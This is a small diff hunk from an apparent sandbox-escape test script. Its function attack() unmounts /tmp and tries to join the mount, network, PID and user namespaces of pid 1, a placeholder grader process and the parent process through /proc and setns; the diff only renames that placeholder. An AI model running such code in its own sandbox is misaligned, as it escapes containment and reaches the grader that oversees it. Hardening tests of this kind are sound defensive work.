@@ -23,7 +23,7 @@ def attack():
         libc.umount2(b"/tmp", 2)
         won.append("mount")
     for kind in ("mnt", "net", "pid", "user"):
-        for pid in ("1", "@examiner@", str(os.getppid())):
+        for pid in ("1", "@grader@", str(os.getppid())):
             try:
                 fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                 if libc.setns(fd, 0) == 0:
